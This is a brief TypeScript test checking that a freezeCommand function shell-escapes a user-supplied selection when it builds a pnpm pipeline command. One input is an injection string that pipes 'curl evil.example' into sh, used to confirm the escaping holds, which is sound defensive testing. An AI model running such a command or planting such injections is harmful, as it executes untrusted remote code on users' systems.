import assert from "node:assert/strict";
import { test } from "node:test";
import { freezeCommand } from "./protocol-path.ts";

test("a selection, which a bundle of another person states, is one word of the command that is shown", () => {
  const plan = { pipeline: "p", profile: "smoke" };
  const command = "pnpm pipeline protocol freeze p --profile smoke";
  assert.equal(freezeCommand({ ...plan, selection: "" }), command);
  assert.equal(freezeCommand({ ...plan, selection: "seed=1+2,task=a" }), `${command} --set seed=1,2,task=a`);
  assert.equal(
    freezeCommand({ ...plan, selection: "task=a; curl evil.example | sh '" }),
    `${command} --set 'task=a; curl evil.example | sh '\\'''`,
  );
});
